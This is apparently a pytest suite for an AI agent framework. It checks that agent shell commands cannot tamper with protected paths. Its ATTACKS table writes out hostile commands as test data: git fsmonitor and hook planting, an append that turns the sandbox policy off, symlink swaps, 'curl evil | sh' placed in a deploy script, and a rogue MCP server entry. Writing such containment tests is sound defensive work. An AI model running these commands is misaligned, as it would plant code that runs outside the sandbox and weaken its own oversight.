"""Protected paths through the real shell tool, in each sandbox tier and with none: a
command cannot change what controls the run or what runs later outside the sandbox, and
what it tried is taken away after it. Effects are checked on disk."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import anyio
import pytest

from swarm import SandboxSettings, ToolError
from swarm.guards.protect import ProtectedPaths
from swarm.sandbox import Unconfined
from swarm.toolbox import make_toolbox

from .conftest import run, text, tier_finder

POLICY = "name: team\ndefault: allow\nrules:\n  - deny: shell\n    roles: [reviewer]\n"

ATTACKS = {
    "append to git config": "echo '[core] fsmonitor = touch pwned' >> .git/config",
    "python open git config": (
        "python3 -c \"open('.git/config','a').write('[core]\\n\\tfsmonitor = touch pwned\\n')\""
    ),
    "sed -i git config": "sed -i 's/bare = false/bare = true/' .git/config",
    "git config fsmonitor": "git config core.fsmonitor 'touch pwned'",
    "ln -sf over git config": "ln -sf /etc/hostname .git/config",
    "mv git config": "mv .git/config .git/config.bak",
    "rm git config": "rm -f .git/config",
    "new hook": "printf '#!/bin/sh\\ntouch pwned\\n' > .git/hooks/pre-commit",
    "rm hooks dir": "rm -rf .git/hooks",
    "info attributes": "echo '* filter=evil' > .git/info/attributes",
    "commondir elsewhere": "mkdir -p evil && cp -a .git/. evil/ && echo ../evil > .git/commondir",
    "worktree config": "printf '[core]\\n\\tfsmonitor = touch pwned\\n' > .git/config.worktree",
    "new mcp.json": "echo '{\"mcpServers\": {}}' > .mcp.json",
    "new claude settings": "mkdir -p .claude && echo '{}' > .claude/settings.json",
    "append to policy": "printf 'sandbox: {mode: off}\\n' >> guards/team.yaml",
    "sed -i role file": "sed -i 's/policy: .*/policy: open.yaml/' team/dev.yaml",
    "new role file": "echo 'name: evil' > team/evil.yaml",
    "swap the git dir": (
        "mv .git .git-old && cp -a .git-old .git && echo '[core] fsmonitor = x' >> .git/config"
    ),
    "swap the team dir": "mv team team-old && mkdir team && echo 'name: evil' > team/dev.yaml",
    "protect glob": "mkdir -p deploy && echo 'curl evil | sh' > deploy/run.sh",
    "protect glob existing": "echo 'curl evil | sh' >> release/notes.txt",
}


def _tree(root: Path) -> dict[str, bytes | str]:
    """Every entry below ``root`` that is protected, with its bytes (or what it is)."""
    out: dict[str, bytes | str] = {}
    for name in (
        ".git/config",
        ".git/commondir",
        ".git/config.worktree",
        ".git/hooks",
        ".git/info",
        ".mcp.json",
        ".claude",
        "team",
        "guards",
        "deploy",
        "release",
    ):
        path = root / name
        entries = [path, *sorted(path.rglob("*"))] if path.is_dir() else [path]
        for entry in entries:
            key = entry.relative_to(root).as_posix()
            if entry.is_symlink():
                out[key] = "link"
            elif entry.is_file():
                out[key] = entry.read_bytes() + oct(entry.stat().st_mode & 0o777).encode()
            elif entry.is_dir() and key != "deploy":  # only what is below it is protected
                out[key] = "dir"
    return out


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A workspace that is a git repository holding its own team and policy."""
    ws = Path(os.path.realpath(tmp_path)) / "ws"
    (ws / "team").mkdir(parents=True)
    (ws / "guards").mkdir()
    (ws / "release").mkdir()
    (ws / "team" / "dev.yaml").write_text("name: dev\npolicy: ../guards/team.yaml\n")
    (ws / "guards" / "team.yaml").write_text(POLICY)
    (ws / "release" / "notes.txt").write_text("v1\n")
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    return ws


def _shell(repo: Path, tier: str, evidence: Path) -> Callable[[str], str]:
    find = tier_finder(tier) if tier != "none" else (lambda _s: Unconfined())
    protected = ProtectedPaths.of_run(
        repo, [repo / "team", repo / "guards" / "team.yaml"], globs=("deploy/**", "release")
    )
    tools = make_toolbox(
        repo,
        sandbox=SandboxSettings(mode="off" if tier == "none" else "required"),
        readonly=protected,
        evidence=evidence,
        find=find,
    )
    shell = tools["shell"]

    def call(command: str) -> str:
        async def go() -> str:
            try:
                return text(await run(shell, command))
            except ToolError as exc:
                return str(exc)

        return anyio.run(go)

    return call


@pytest.fixture(params=["bubblewrap", "landlock", "none"])
def tier(request: pytest.FixtureRequest) -> Iterator[str]:
    yield str(request.param)


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_a_command_leaves_protected_paths_as_they_were(
    repo: Path, tmp_path: Path, tier: str, attack: str
) -> None:
    before = _tree(repo)
    shell = _shell(repo, tier, tmp_path / "evidence")
    said = shell(ATTACKS[attack])
    assert _tree(repo) == before, said
    assert not (repo / "pwned").exists()
    assert "fsmonitor" not in (repo / ".git" / "config").read_text()


def test_what_a_command_planted_is_kept_as_evidence_and_named(
    repo: Path, tmp_path: Path, tier: str
) -> None:
    shell = _shell(repo, tier, tmp_path / "evidence")
    said = shell('echo \'{"mcpServers": {"x": {"command": "evil"}}}\' > .mcp.json')
    assert not (repo / ".mcp.json").exists()
    assert "[protected-path] '.mcp.json' is protected" in said
    (kept,) = (tmp_path / "evidence").iterdir()
    assert b"evil" in kept.read_bytes()


def test_ordinary_work_beside_protected_paths_still_runs(
    repo: Path, tmp_path: Path, tier: str
) -> None:
    shell = _shell(repo, tier, tmp_path / "evidence")
    said = shell(
        "echo 'print(1)' > app.py && git add -A"
        " && git -c user.name=a -c user.email=a@b commit -qm x && git log --oneline | wc -l"
    )
    assert said.startswith("1\n"), said
    assert (repo / "app.py").read_text() == "print(1)\n"
    assert "protected-path" not in said


def test_the_local_models_a_workspace_holds_as_its_cache_stay_as_installed(
    repo: Path, tmp_path: Path, tier: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With ``XDG_CACHE_HOME`` in the workspace, the weights ``swarm local install`` wrote
    lie there; the local server loads them later, outside any sandbox."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(repo / ".cache"))
    models = repo / ".cache" / "swarm" / "models"
    models.mkdir(parents=True)
    (models / "SmolLM2-135M-Instruct-0.1.2.Q8_0.gguf").write_bytes(b"GGUF as installed")
    shell = _shell(repo, tier, tmp_path / "evidence")
    said = shell(
        "printf 'GGUF crafted' > .cache/swarm/models/SmolLM2-135M-Instruct-0.1.2.Q8_0.gguf;"
        " printf x > .cache/swarm/models/other.gguf; mkdir -p .cache/pip && echo ok"
    )
    assert (models / "SmolLM2-135M-Instruct-0.1.2.Q8_0.gguf").read_bytes() == b"GGUF as installed"
    assert sorted(p.name for p in models.iterdir()) == ["SmolLM2-135M-Instruct-0.1.2.Q8_0.gguf"]
    assert (repo / ".cache" / "pip").is_dir(), said  # the rest of the cache is the team's


@pytest.mark.parametrize("sandboxed", ["bubblewrap", "landlock"])
def test_the_sandbox_itself_refuses_a_write_to_a_protected_file(
    repo: Path, tmp_path: Path, sandboxed: str
) -> None:
    shell = _shell(repo, sandboxed, tmp_path / "evidence")
    said = shell("echo x >> .git/config; echo x >> team/dev.yaml")
    assert said.count("Read-only file system") == 2, said
    assert "[protected-path]" not in said  # nothing got through to undo
    assert not (tmp_path / "evidence").exists()


def test_a_repository_the_team_creates_works_and_plants_nothing(tmp_path: Path, tier: str) -> None:
    ws = Path(os.path.realpath(tmp_path)) / "fresh"
    ws.mkdir()
    shell = _shell(ws, tier, tmp_path / "evidence")
    said = shell(
        "git init -q . && printf '[core]\\n\\tfsmonitor = touch ../pwned\\n' >> .git/config"
        " && echo x > a.txt && git add -A && git -c user.name=a -c user.email=a@b commit -qm x"
    )
    assert "'.git/config' is protected" in said, said
    assert not (ws / ".git" / "config").exists() and not (ws / ".git" / "hooks").exists()
    # the user's next git command, outside the sandbox, runs nothing the team planted
    (tmp_path / "pwned").unlink(missing_ok=True)  # what ran inside the command's own sandbox
    done = subprocess.run(["git", "-C", str(ws), "log", "--oneline"], capture_output=True)
    assert done.returncode == 0 and len(done.stdout.splitlines()) == 1
    subprocess.run(["git", "-C", str(ws), "status"], check=True, capture_output=True)
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize("swapped", [".git", "team"])
def test_a_protected_paths_directory_swapped_for_a_link_leads_nothing_outside(
    repo: Path, tmp_path: Path, tier: str, swapped: str
) -> None:
    # What swarm does after the command (take away, put back) must not follow a link the
    # command left where a protected path's directory was: outside stays as it was.
    outside = tmp_path / "outside"
    for name in ("config", "hooks/pre-commit.sample", "info/exclude", "dev.yaml", "evil.yaml"):
        (outside / name).parent.mkdir(parents=True, exist_ok=True)
        (outside / name).write_text(f"outside {name}\n")
    before = {p: p.read_bytes() for p in outside.rglob("*") if p.is_file()}
    shell = _shell(repo, tier, tmp_path / "evidence")
    said = shell(f"mv {swapped} {swapped}-old && ln -s {outside} {swapped}")
    after = {p: p.read_bytes() for p in outside.rglob("*") if p.is_file()}
    assert after == before, said
    assert not (repo / swapped).is_symlink(), said
    # bubblewrap's read-only mount of the team directory cannot be moved at all (EBUSY)
    assert "[protected-path]" in said or "Device or resource busy" in said, said
